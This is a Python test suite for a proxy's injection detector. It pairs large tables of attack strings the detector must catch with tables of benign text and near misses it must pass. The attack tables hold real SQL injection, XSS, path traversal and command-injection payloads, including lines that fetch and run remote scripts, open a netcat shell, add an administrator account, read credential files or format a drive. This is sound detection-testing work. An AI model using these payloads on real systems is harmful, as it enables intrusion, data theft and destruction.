"""Detection and false-positive tables, one per class: what each detector must and must not flag."""

from __future__ import annotations

import pytest

from proxy.detect import CLASSES, Engine, Field, json_fields, query_fields
from proxy.detect.base import normalise
from proxy.detect.engine import DEFAULT_DETECTORS


def _fires(cls: str, value: str, source: str = "body", is_key: bool = False) -> str | None:
    field = Field(source, f"{source}.x", value, is_key)  # type: ignore[arg-type]
    hit = DEFAULT_DETECTORS[cls][0].match(normalise(value), field)
    return hit.detector_id if hit else None


ATTACKS = [
    ("sqli", "admin' --"), ("sqli", "' or 'x'='x"), ("sqli", "1' AND 1=1 AND 'a'='a"), ("sqli", "') or ('x')=('x"),
    ("sqli", "1 UNION ALL SELECT NULL,NULL,CONCAT(0x71,0x72)-- -"), ("sqli", "1 union/**/select 1,2,3"),
    ("sqli", "'; DROP TABLE users; --"), ("sqli", "1) AND 8137=8137 AND (5=5"), ("sqli", "1' AND SLEEP(5)#"),
    ("sqli", "1 AND EXTRACTVALUE(1,CONCAT(0x5c,0x71))"), ("sqli", "' or 1=1/*"), ("sqli", "1;waitfor delay '0:0:5'--"),
    ("sqli", "(SELECT (CASE WHEN (1=1) THEN 1 ELSE 0 END))"), ("sqli", "1 /*!50000union*/ /*!50000select*/ 1,2"),
    ("sqli", "x' or username like '%"), ("sqli", "' UNION SELECT"), ("sqli", "1 order by 5--"),
    ("xss", "<script>alert(1)</script>"), ("xss", "<img src=x onerror=alert(1)>"), ("xss", "<svg/onload=alert(1)>"),
    ("xss", "\" onmouseover=\"alert(1)"), ("xss", "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>"),
    ("xss", "<iframe srcdoc=\"&lt;script&gt;\">"), ("xss", "javascript:alert(document.cookie)"),
    ("xss", "＜script＞alert(1)＜/script＞"), ("xss", "<scr\x00ipt>alert(1)</script>"), ("xss", "\";alert('x');//"),
    ("xss", "<div style=\"width: expression(alert(1))\">"), ("xss", "\"><iframe src=//evil>"),
    ("xss", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">"), ("xss", "<IMG SRC=JaVaScRiPt:alert('x')>"),
    ("lfi", "../../../etc/passwd"), ("lfi", "..\\..\\windows\\win.ini"), ("lfi", "/etc/shadow"),
    ("lfi", "....//....//etc/passwd"), ("lfi", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"), ("lfi", "..%252f..%252fetc"),
    ("lfi", "php://filter/convert.base64-encode/resource=index.php"), ("lfi", "file:///etc/passwd"),
    ("lfi", "report.pdf\x00.jpg"), ("lfi", "/proc/self/environ"), ("lfi", "c:\\boot.ini"),
    ("lfi", "．．/．．/etc/hosts"), ("lfi", "../config.php"), ("lfi", "/./././etc/passwd"),
    ("cmdi", "; id"), ("cmdi", "| cat /etc/passwd"), ("cmdi", "a && whoami"), ("cmdi", "$(curl http://x/s.sh)"),
    ("cmdi", "`id`"), ("cmdi", "x;ping -c 10 127.0.0.1"), ("cmdi", "() { :;}; /bin/bash -c 'id'"),
    ("cmdi", "cat${IFS}/etc/passwd"), ("cmdi", "nc -lvvp 4444 -e /bin/sh"), ("cmdi", "; sleep 10"),
    ("cmdi", "<?php system($_GET['c']); ?>"), ("cmdi", "{${phpinfo()}}"), ("cmdi", "a\nid"), ("cmdi", "ipconfig /all"),
    ("cmdi", "& net user hacker pw /ADD"), ("cmdi", "perl -e 'print 1'"), ("cmdi", "';exit(md5('x'));//"),
    ("ssti", "{{7*7}}"), ("ssti", "${7*7}"), ("ssti", "<%= 7 * 7 %>"), ("ssti", "#{7*7}"),
    ("ssti", "{{''.__class__.__mro__[1].__subclasses__()}}"), ("ssti", "{{config.items()}}"),
    ("ssti", "${T(java.lang.Runtime).getRuntime().exec('id')}"), ("ssti", "{{request|attr('application')}}"),
    ("ssti", "{php}echo `id`;{/php}"), ("ssti", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>"),
    ("nosqli", "', $where: '1 == 1'"), ("nosqli", "{\"$gt\": \"\"}"), ("nosqli", "'; sleep(5000); '"),
    ("nosqli", "' && this.password.match(/.*/)//"), ("nosqli", "db.users.find({})"), ("nosqli", "[$ne]=1"),
    ("crlf", "/%0d%0aSet-Cookie:x=1"), ("crlf", "a\r\nLocation: http://evil"), ("crlf", "x%u000aSet-Cookie:a=b"),
    ("crlf", "x\u560d\u560aSet-Cookie: a"),
]


@pytest.mark.parametrize(("cls", "value"), [pytest.param(c, v, id=f"{c}:{v[:40]}") for c, v in ATTACKS])
def test_attack_is_detected(cls: str, value: str) -> None:
    assert _fires(cls, value, "query") is not None


BENIGN = [
    "Conor O'Brien", "Renée O'Connor-Smith", "Robert'); Drop", "Dr. Sarah Union", "null",
    "Please select one item from the union list and drop it in the basket.",
    "We played drop table tennis all afternoon; it was great fun.",
    "Can you update my order? The previous one was wrong -- sorry!", "It's 1=1 in my book: you get what you pay for.",
    "Select all that apply: (a) yes, (b) no, (c) maybe.", "Use 2 > 1 and 3 < 4 as examples for the homework.",
    "He said 'yes' or 'no' and left.", "Answer 'yes' or 'no'", "Order by phone or online; we ship from Cork.",
    "union select wget", "The union select committee meets at 5",
    "<p>Hello <strong>world</strong>! See <a href=\"https://example.com/?a=1&amp;b=2\">this</a>.</p>",
    "<p><img src=\"https://cdn.example.com/cat.jpg\" alt=\"cat\"></p>", "Use the <code>&lt;script&gt;</code> tag.",
    "<iframe src=\"https://www.youtube.com/embed/x\" allowfullscreen></iframe>", "JavaScript: The Good Parts (2008)",
    "if (a && b || !c) { console.log('ok'); }", "document.querySelector('#save').addEventListener('click', f);",
    "The kids' drawings are in ../shared/photos, I think.", "See [the guide](../guide/setup.md).",
    "C:\\Users\\anna\\Documents\\CV.docx", "uploads/2024/05/", "https://example.com/etc/passwd-reset",
    "Ping me when you're back; I'll echo the plan to the group.", "Cat sitter needed from 12/03 to 19/03.",
    "I ran `ls -la` and saw the file, but the app doesn't.", "pip install -r requirements.txt && pytest -q",
    "Rock & roll, R&B, AT&T, Q&A", "Items: pen; paper; glue; scissors", "| ID | Name |\n|---|---|\n| 1 | Ann |",
    "comment:\n\n```\ncurl -s https://api.example.com/v1/status | jq .\n```\n", "Reminder: sleep 8 hours",
    "Hi {{name}}, your order #{{order_id}} has shipped.", "Our Jinja tip: use {% raw %} to show braces.",
    "Wait... is it $5 or $50? The page says {price} literally.", "export PATH=$HOME/.local/bin:$PATH",
    "$schema", "Price: €12.50 (incl. VAT) & free shipping", "Line one\nLine two\nSubject: hello",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "素晴らしいサービスでした。", "This product is 💯 — my 👶 loves it 😍", "time.sleep(5) then retry",
]


@pytest.mark.parametrize("value", [pytest.param(v, id=v[:40]) for v in BENIGN])
def test_benign_text_passes_every_class(value: str) -> None:
    engine = Engine([c for c in CLASSES if c != "ssrf"])
    assert engine.scan(json_fields({"text": value})) == []


def test_sql_code_is_sql_unless_the_field_is_excluded() -> None:
    snippet = "SELECT name FROM a UNION SELECT name FROM b;"
    assert _fires("sqli", snippet) == "sqli.union"


def test_nosql_operator_keys() -> None:
    assert _fires("nosqli", "$ne", is_key=True) == "nosqli.operator-key"
    assert _fires("nosqli", "$schema", is_key=True) is None
    assert _fires("nosqli", "user[$regex]", "query", is_key=True) == "nosqli.operator-key"
    hits = Engine(["nosqli"]).scan(query_fields("user[$ne]=x"))
    assert [h.detector_id for h in hits] == ["nosqli.operator-key"]


def test_crlf_in_body_text_needs_a_header_an_attacker_wants() -> None:
    assert _fires("crlf", "Line one\nSubject: hello", "body") is None
    assert _fires("crlf", "x\nSet-Cookie: a=b", "body") == "crlf.header"
    assert _fires("crlf", "x\nSubject: a", "query") == "crlf.header"


# Shapes generalised from the tuning corpus's misses (2026-11-23): each row is (class, value, detector id),
# run through the whole engine (plain-value gates, hex-escape decoding) and not just the detector.
GENERALISED = [
    ("sqli", "'or select *", "sqli.quote-bool"), ("sqli", "\" AND select null,null--", "sqli.quote-bool"),
    ("sqli", "' or '' '", "sqli.quote-bool"), ("sqli", "\" or \"a\" \"", "sqli.quote-bool"),
    ("sqli", "1) AND !SLEEP(5)# -- -", "sqli.sleep"), ("sqli", "1 and not sleep(3)", "sqli.sleep"),
    ("sqli", "*(|(mail=*))", "sqli.ldap-filter"), ("sqli", "admin)(&(objectClass=*))", "sqli.ldap-filter"),
    ("sqli", "\\x27\\x4F\\x52 SELECT *", "sqli.quote-bool"), ("sqli", "\\x27UNION SELECT", "sqli.union"),
    ("sqli", "1\\x20or\\x201=1", "sqli.bool-compare"),
    ("cmdi", "|usr/bin/id\\n", "cmdi.separator-weak"), ("cmdi", "; bin/uname -a", "cmdi.separator-strong"),
    ("cmdi", "ls -l /", "cmdi.bare"), ("cmdi", "ls -lh /etc/", "cmdi.bare"), ("cmdi", "ls -la /home/*", "cmdi.bare"),
    ("cmdi", "sleep 10", "cmdi.bare"),
    ("cmdi", 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD',
     "cmdi.bare"),
]

# Shapes generalised from the fresh set's misses (2026-11-23, after its one clean measurement): commix's
# probes, fuzzdb's command templates, dotdotpwn's spellings. Same form as GENERALISED.
FRESH_GENERALISED = [
    # commix: `echo` with a word glued to a `$` expansion after a separator, `$(echo TAG)`, and the canary
    ("cmdi", ";echo MPCSBG$((54+42))$(echo MPCSBG)MPCSBG", "cmdi.separator-weak"),
    ("cmdi", " echo TDJHRY$((30+41))$(echo TDJHRY)TDJHRY'", "cmdi.arith"),
    ("cmdi", "echo TAG$((1+2))`echo TAG`TAG", "cmdi.arith"), ("cmdi", "|echo ABC$HOME", "cmdi.separator-weak"),
    ("cmdi", "x$(echo ok)", "cmdi.substitution"), ("cmdi", "$( echo MPCSBG)MPCSBG", "cmdi.substitution"),
    # arithmetic expansion of constants glued to a word
    ("cmdi", "abc$((54+42))", "cmdi.arith"), ("cmdi", "$((7*6))xyz", "cmdi.arith"),
    ("cmdi", "TAG$(( 3 - 1 ))$HOME", "cmdi.arith"),
    # a variable assigned and run as the command
    ("cmdi", "CMD=$'whoami';$CMD", "cmdi.variable"), ("cmdi", "&&CMD=$\\'ls -la /home\\';$CMD", "cmdi.variable"),
    ("cmdi", 'FAIL||CMD=$"pwd";$CMD', "cmdi.variable"), ("cmdi", "a=id; ${a}", "cmdi.variable"),
    ("cmdi", "x=uname||$x", "cmdi.variable"),
    ("cmdi", '<!--#exec cmd="ls -la /tmp"-->', "cmdi.ssi"),
    ("cmdi", "'uname -n -s'", "cmdi.bare"), ("cmdi", '"ls -la /tmp"', "cmdi.bare"),
    # `+` for a blank, as a URL-form payload arrives in a JSON body
    ("cmdi", "+|+Dir+c:\\", "cmdi.separator-strong"), ("cmdi", "\n+dir+c:\\", "cmdi.newline"),
    ("cmdi", "+dir+c:\\+|", "cmdi.bare"), ("cmdi", "$&&dir+c:%2f", "cmdi.separator-strong"),
    # dotdotpwn: hex-literal separators, a lone overlong lead byte, overlongs replaced by U+FFFD
    ("lfi", "..0x2f..0x2fetc0x2fpasswd", "lfi.multi-up"), ("lfi", "..0x5cboot.ini", "lfi.up-sensitive"),
    ("lfi", "..%c0%2f..%c0%2fetc%c0%2fissue", "lfi.multi-up"), ("lfi", "..\udcc0/etc\udcc0/passwd", "lfi.up-sensitive"),
    ("lfi", "..\ufffd/..\ufffd/boot.ini", "lfi.multi-up"),
    ("lfi", "\ufffd\ufffd\ufffd\ufffd/etc/hosts", "lfi.absolute"),
    ("lfi", "..\ufffd\ufffd..\ufffd\ufffd..\ufffd\ufffdwindows/win.ini", "lfi.multi-up"),
    # JHADDIX: web-server logs, shell start-up and history files, a whole value that is a path into /etc or /boot
    ("lfi", "/apache2/logs/access_log", "lfi.absolute"), ("lfi", "c:\\apache\\logs\\error.log", "lfi.absolute"),
    ("lfi", "/.bash_history", "lfi.absolute"), ("lfi", "/.cshrc", "lfi.absolute"),
    ("lfi", "../.zshrc", "lfi.up-sensitive"), ("lfi", "/etc/apt/sources.list", "lfi.system-path"),
    ("lfi", " /boot/grub/grub.conf", "lfi.system-path"), ("lfi", "//etc/nsswitch.conf", "lfi.system-path"),
    # fuzzdb's `^` and `<` in front of a command, and `last` glued to its separator
    ("cmdi", "^ping 127.0.0.1", "cmdi.loose-separator"), ("cmdi", "<ls -la /tmp", "cmdi.loose-separator"),
    ("cmdi", "<whoami;", "cmdi.loose-separator"), ("cmdi", "<pwd\\n", "cmdi.loose-separator"),
    ("cmdi", "^pwd;", "cmdi.loose-separator"), ("cmdi", "&&last&&", "cmdi.separator-weak"),
    ("cmdi", "&last", "cmdi.separator-weak"), ("cmdi", "\\nlast", "cmdi.newline"),
]


# shapes generalised from the misses of the second fresh set (attacks-fresh2/, benchmarks/corpus/RESULTS.md)
FRESH2_GENERALISED = [
    # quoted literals compared without blanks (a probe's true and false halves) or concatenated; a boolean's
    # identifier tautology
    ("sqli", "'1'='1'", "sqli.literal-compare"), ("sqli", '"foo"="foo"', "sqli.literal-compare"),
    ("sqli", "'a'='b'", "sqli.literal-compare"), ("sqli", "x'||'x", "sqli.literal-compare"),
    ("sqli", " or a=a", "sqli.tautology"), ("sqli", ") or (a=a", "sqli.tautology"),
    # a quote, a boolean, then `is [not] null` ended by SQL, or the next literal's quote ending the value
    ("sqli", "x' AND email IS NULL; --", "sqli.quote-bool"), ("sqli", "admin' or '", "sqli.quote-bool"),
    ("sqli", "' or username is not NULL or username = '", "sqli.quote-bool"),
    ("sqli", "' AND @@global.version_compile_os--", "sqli.quote-bool"),
    # MS SQL dynamic SQL, stacked CALL/DESC/exec of concatenated literals, ORDER BY n ASC, SELECT(...)FROM
    ("sqli", "declare @s varchar(22) select @s =", "sqli.dynamic"), ("sqli", "0x7300 exec(@q)", "sqli.dynamic"),
    ("sqli", "'; exec ('sel' + 'ect us' + 'er')", "sqli.stacked"), ("sqli", "'; CALL SLEEP(2)--", "sqli.stacked"),
    ("sqli", "\\'; desc users; --", "sqli.stacked"), ("sqli", "ORDER BY 1 ASC--", "sqli.order-by"),
    ("sqli", "(SELECT(0)FROM(SELECT(SLEEP(7)))a)", "sqli.subselect"),
    # a handler inside a tag whose attribute names hold a `<`; an attribute-form handler calling a sink;
    # sinks aliased or concatenated; a script element built by code
    ("xss", '<svg </onload ="1> (_=alert,_(1)) "">', "xss.handler"), ("xss", "xyz onerror=alert(6);", "xss.handler"),
    ("xss", "1;a=eval;b=alert;a(b(/c/.source));", "xss.js-sink"), ("xss", "+alert(0)+", "xss.js-sink"),
    ("xss", "appendChild(createElement('script')).src='//x.ws'", "xss.script-element"),
    # overlongs without the second `%`, files named from `./`, whole-value paths to server files and proc
    ("lfi", "%C0AE%C0AE%C0AF%C0AE%C0AE%C0AFetc%C0AFpasswd", "lfi.multi-up"), ("lfi", "./web.config", "lfi.dot-slash"),
    ("lfi", "./WEB-INF/web.xml", "lfi.dot-slash"), ("lfi", "/opt/lampp/logs/access_log", "lfi.system-path"),
    ("lfi", "/usr/local/php5/httpd.conf.php", "lfi.system-path"), ("lfi", "proc/self/environ", "lfi.system-path"),
    ("lfi", "/private/etc/httpd/httpd.conf", "lfi.system-path"),
    # a sink as a whole value, assigned as a parameter, passed as a callback, aliased with a comma (from the
    # first fresh set's misses)
    ("xss", "alert`1`", "xss.js-sink"), ("xss", "alert&lpar;1&rpar;", "xss.js-sink"),
    ("xss", "(alert)(1)", "xss.js-sink"), ("xss", "a=alert,a(1)", "xss.js-sink"),
    ("xss", "[1].find(alert)", "xss.js-sink"),
    ("xss", "?playerready=alert(document.cookie)", "xss.js-sink"),
    # from the third fresh set's misses (real exploit requests): bash brace expansion, Node's child_process,
    # an XHTML-namespaced script element, a sink call in braces
    ("cmdi", "x|{echo,Y2F0IC4uL2V0Yy9wYXNzd2Q=}|{base64,-d}|bash", "cmdi.brace"),
    ("cmdi", "process.mainModule.require('child_process').exec('nslookup x')", "cmdi.node"),
    ("xss", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', "xss.tag"),
    ("xss", "{alert(document.domain)}", "xss.js-sink"),
    # trivial variations a review found (blanks, `as`, more types, shortened parameters, aliases, prefixes)
    ("sqli", "declare          @s                                      varchar(200)", "sqli.dynamic"),
    ("sqli", "declare @s as varchar(200)", "sqli.dynamic"), ("sqli", "declare @s varbinary(8000)", "sqli.dynamic"),
    ("sqli", "1 order by 1 desc,2 asc--", "sqli.order-by"), ("sqli", "1 having 1#", "sqli.numeric-bool"),
    ("cmdi", ";iwr -useb http://x/a.ps1|iex", "cmdi.separator-weak"),
    ("cmdi", "; Start-Sleep -sec 5", "cmdi.separator-weak"), ("cmdi", ";{cat,/etc/passwd}", "cmdi.brace"),
    ("xss", "top.alert(1)", "xss.js-sink"), ("xss", "alert(String.fromCharCode(88))", "xss.js-sink"),
    ("lfi", "/opt/a/b/c/d/e/f/g/h/i/nginx.conf", "lfi.system-path"), ("lfi", "./.git/config", "lfi.dot-slash"),
    # from the fourth fresh set's misses (CRS's regression tests): in-word shell obfuscation, cmd.exe FOR loops,
    # a variable run with arguments, %SYSTEMROOT% paths, format c:, PowerShell cradles as the whole value;
    # PostgreSQL/SQLite operators after a quote, collate, select*; .ssh/ at the start; IIS %u escapes (below)
    ("cmdi", "www.google.com;c$@at /et$@c/pas$@swd", "cmdi.separator-weak"),
    ("cmdi", ";pi``ng -n 3 127.0.0.1", "cmdi.separator-weak"), ("cmdi", ";w^h^o^a^m^i", "cmdi.separator-strong"),
    ("cmdi", ";c'a't /etc/passwd", "cmdi.separator-weak"), ("cmdi", "for /f %a in ('cmd') do x", "cmdi.for-loop"),
    ("cmdi", "& FOR %%i IN (a,b,c) DO cmd", "cmdi.for-loop"),
    ("cmdi", "a=/etc&&b=/passwd&&c=cat&&$c $a$b", "cmdi.variable"),
    ("cmdi", '"|type %SYSTEMROOT%\\win.ini', "cmdi.separator-weak"), ("cmdi", "; format C:", "cmdi.separator-weak"),
    ("cmdi", "iex (iwr http://10.0.10.10:8000/x.ps1)", "cmdi.bare"),
    ("cmdi", "Invoke-WebRequest http://example.com/path/file.ps1", "cmdi.bare"),
    ("sqli", "z'or email notnull--", "sqli.quote-bool"), ("sqli", "a@b.op' and email ilike email--", "sqli.quote-bool"),
    ("sqli", "user'collate nocase--", "sqli.comment-end"),
    ("sqli", "x\")) and (select*from(select(sleep(5)))x) --", "sqli.quote-bool"),
    ("lfi", ".ssh/id_rsa", "lfi.dot-slash"),
    # PowerShell cmdlets with their kind of argument
    ("cmdi", ";start-sleep -s 5", "cmdi.separator-weak"), ("cmdi", "|iex (new-object net.webclient)",
                                                           "cmdi.separator-weak"),
]


@pytest.mark.parametrize(("cls", "value", "rid"), [
    pytest.param(*row, id=f"{table}:{row[0]}:{row[1][:40]}")
    for table, rows in (("tuning", GENERALISED), ("fresh", FRESH_GENERALISED), ("fresh2+", FRESH2_GENERALISED))
    for row in rows
])
def test_generalised_shapes_are_detected(cls: str, value: str, rid: str) -> None:
    assert [h.detector_id for h in Engine([cls]).scan(json_fields({"q": value}))] == [rid]


@pytest.mark.parametrize("value", ["x;c$@at /et$@c/pas$@swd", ";pi``ng -n 3 127.0.0.1", ";w^h^o^a^m^i"])
def test_shell_obfuscation_is_undone_in_a_padded_value_too(value: str) -> None:
    # a long value gets the second look around each shell token, so padding does not hide the payload
    for padded in (value, " " * 1000 + value, value + " " * 1000, "word " * 200 + value + " word" * 200):
        assert Engine(["cmdi"]).scan(json_fields({"q": padded})), padded[:40]


# near misses of the rows above: prose, paths, tickets and code that must stay clean
NEAR_MISSES = [
    "He said 'yes' or 'no' 'cause he was tired", "Pick 'red' or 'blue'", "Shall we select one?' or not",
    "I sleep(5 hours) a night", "Reminder: sleep 8 hours", "sleep", "Sleep Drop Kitchen",
    "if (!(key in cache)) { load(key); }", "(a|b)&(c|d)", "x = (flags & (MASK | BIT))",
    "ls -la ~/projects | grep api", "ls -l", "ls the files in /tmp first", "tools /usr/local/bin",
    "C:\\xdata\\notes.txt", "b'\\x00\\x01' is two bytes", "printf '\\x41\\x42'", "usr/bin/python3 is missing",
    # near misses of FRESH_GENERALISED: jQuery, shell lessons in Markdown, prose with "echo", arithmetic, paths
    "$(document).ready(function () { $('#save').on('click', save); });",
    '$("#menu").toggle(); $(this).hide(); $(\'.item\').each(function (i) { $(this).text(i + 1); });',
    "if (cached || $el) { $el.show(); }", "var $el=$('#x');x=y||$el;",
    "$(window).on('resize', () => $('#nav').toggleClass('open'));", "jQuery: $( '#id' ), $.ajax({url: u})",
    "function f(&$x) { $y = &$x; return $y; }", "x=$((x+1))",
    "To add numbers in bash:\n\n```sh\necho $((2 + 3))\ni=$((i+1))\nfor f in *.txt; do echo \"$f\"; done\n```\n"
    "That prints 5.",
    "```bash\nVERSION=1.2\necho \"building $VERSION\"\nmake build\n```\nand then deploy.",
    "Can you echo this back to me? I'll echo it twice; echo is fine.", "The echo chamber (echo, echo)",
    "Price: $5 (or $((5)) with tax?) and 2*(3+4) = 14", "Budget: $(12+3) per seat; $100 total",
    "Copy C:\\Users\\anna\\report.docx to D:\\backup\\ (the dir is shared)", "Is it D:\\a+b.txt or a+b?",
    "C++|Rust|Go", "grades A+|B+|C", "hex 0x2f is a slash and 0x5c a backslash", "see 0x2e0x2e for dots",
    "caf\ufffd au lait \ufffd\ufffd menu/drinks", "the <!-- comment --> and <!--#include virtual=\"/f.html\" -->",
    "Settings live in /etc/myapp/app.yaml, see the docs.", "add the alias to ~/.bashrc and reload",
    "/.well-known/security.txt", "uploads/my.profile.jpg", "history/profile page", "apache/logs are rotated",
    "^ping$", "^ls -", "<dir>x</dir>", "<head><title>t</title></head>", "<id>42</id>", "x^2 + y^2",
    "first; last", "first;last;email", "Items: pen; last one", "<ps>note</ps>", "[^1]: see ^env",
    # what the first versions of these rules fired on in real text (docs, jQuery, Makefiles, shell scripts)
    "npm token revoke <id|token>", "config <set|get> <key>", "seen_ids << id\nend", "(first|last)", "x|last)",
    '@case "`echo x $$MAKEFLAGS | sed \'s/^x //\'`" in', ":r! (echo this; echo that)",
    "cat <<-EOF\n\t\t$commit_message\nEOF\ncommit_message=x", 'sed -i "s|$oldname|$newname|" f; newname=1',
    # near misses of FRESH2_GENERALISED (real text the first versions fired on: shell tests, Python, Node, POD)
    'if [ "z1" = "z1" ] ; then', 'if test "0" = "0" ;', "The field 'phone' or email is null.", "or x = x + 1",
    "either a or b=b in logic", "(select(), poll(), epoll()...)", "select((select(STDOUT), $| = 1)[0]);",
    "const { exec } = require('node:child_process');\nexec('cat *.js missing_file | wc -l', (error) => {});",
    "path = Path(p)\nonerror = partial(on_rm_rf_error, start_path=path)", "shutil.rmtree(p, onerror=handler)",
    "builder = EnvBuilder(prompt=prompt, upgrade_deps=upgrade_deps)",
    "t = e.type;\nontype = type.indexOf(':') < 0 && 'on' + type",
    '<link rel="stylesheet" href="/static/site.css">', "B<link> and B<clone> are shorthands", "uploads/error.log",
    "My app writes logs/access.log daily", "see ./docs/setup.md", "I start-sleep at 10; get-content is a cmdlet",
    "the online=yes option", "x = a + alert + b", "Alert(s) will be sent", "the alert(1) is fine", "R&B and AT&T",
    'if [ "a" = "b" ]', "d['a']='b'", "Use arr.find(x) here",
    "const { exec } = require('node:child_process');", "echo {a,b}", "x; {a,b}", "<dc:title>x</dc:title>",
    "<svg:rect/>",
    # what a review of the new rules found them firing on (deliveries, tickets, configs, XSD, .reg, Markdown)
    "Leave at door; call John (mobile) if nobody answers", "price list; call now (800) 555-0199",
    "Meeting notes; describe yourself", "Severity: critical; describe impact",
    "notification_type=alert, channel=email", "kind=alert, severity=high", "phase=eval, steps=100", "mode = eval;",
    "notify(alert) when done", "Use model.train(eval) for metrics", "Ping me?prompt(later)", "confirm(order)",
    "prompt(text)", "{confirm(delivery)}", '<xs:import namespace="urn:x" schemaLocation="a.xsd"/>',
    '<xsl:import href="common.xsl"/>', "<dc:meta name=x>", 'Headers: @{"Accept"="application/json"}',
    '"DisplayName"="My App"', "the condition 'yes'='yes' is always true", "'foo'||'bar'",
    "./src/windows/registry.cc", "./var/www/html/index.php", "./docs/.env.example", "/tmp/error.log",
    "/docs/nginx.conf", "/api/v1/settings/php.ini", "/static/downloads/web.config", "proc/2/agenda",
    "| Fields | {id,name} |", "fields=a;{id,name}", "cfg;{env,prod}", "Venues: NYSE; IEX (Investors Exchange)",
    "In the shell:\niex(1)> 1 + 1", "The onerror=print(log) handler", "the onboarding=confirm(email) flow",
    "(select(one) from the list below)",
    # near misses of the fourth set's shapes
    "Q&A; 'ls' is short", "don't; it's fine", "for each item in (list) do x", "I wrote a for loop in (python)",
    "x=1; $x is one", "Invoke-WebRequest is a cmdlet", "He said 'hi' and email ilike thing", "my .ssh/config notes",
    "Sort collate nocase -- docs",
]


@pytest.mark.parametrize("value", [pytest.param(v, id=v[:40]) for v in NEAR_MISSES])
def test_near_misses_stay_clean(value: str) -> None:
    assert Engine([c for c in CLASSES if c != "ssrf"]).scan(json_fields({"text": value})) == []
